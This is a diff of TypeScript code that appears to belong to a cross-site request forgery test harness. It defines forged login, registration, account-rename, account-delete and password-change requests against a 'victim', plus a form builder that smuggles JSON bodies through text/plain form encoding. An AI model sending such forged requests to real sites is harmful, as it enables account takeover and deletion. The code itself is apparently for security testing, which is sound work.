@@ -9,14 +9,17 @@ export interface Way {
   readonly leaves: boolean;
 }
 
-/** What is tried on the server: all that signs in or out, or changes something. The page knows more than it ever could. */
+/**
+ * What is tried on the server: all that signs in or out, or changes something. The page knows more than it ever could.
+ * Values end in the sign that a form of text/plain puts between a name and its value: so it sends JSON to the letter.
+ */
 const TARGETS = {
-  login: `{ method: 'POST', path: '/auth_session/login', fields: { email: mallory, password } }`,
-  register: `{ method: 'POST', path: '/users', fields: { email: 'planted@example.com', password } }`,
+  login: `{ method: 'POST', path: '/auth_session/login', fields: { email: mallory, password: password + '=' } }`,
+  register: `{ method: 'POST', path: '/users', fields: { email: 'planted@example.com', password: password + '=' } }`,
   logout: `{ method: 'DELETE', path: '/auth_session/logout', fields: {} }`,
-  rename: `{ method: 'PUT', path: '/users/' + victimId, fields: { first_name: 'Mallory' } }`,
+  rename: `{ method: 'PUT', path: '/users/' + victimId, fields: { first_name: 'Mallory=' } }`,
   remove: `{ method: 'DELETE', path: '/users/' + victimId, fields: {} }`,
-  password: `{ method: 'PUT', path: '/users/me/password', fields: { current_password: password, new_password: 'the password of mallory' } }`,
+  password: `{ method: 'PUT', path: '/users/me/password', fields: { current_password: password, new_password: 'the password of mallory=' } }`,
 } as const;
 
 /** What is read: who is there, of whom, and how many. */
@@ -64,7 +67,7 @@ const TOOLBOX = `
     const override = method === 'POST' ? '' : '?_method=' + method;
     const form = make('form', { method: 'POST', action: at(path + override), enctype, ...attributes }, document_.body);
     const entries = enctype === 'text/plain'
-      ? [[JSON.stringify(fields).slice(0, -1) + (Object.keys(fields).length ? ',' : '') + '"x":"', '"}']]
+      ? [[JSON.stringify(fields).replace(/="}$|}$/, (end) => (end === '}' ? '"x":"' : '')), '"}']]
       : Object.entries({ ...fields, _method: method });
     for (const [name, value] of entries) make('input', { type: 'hidden', name, value }, form);
     return form;
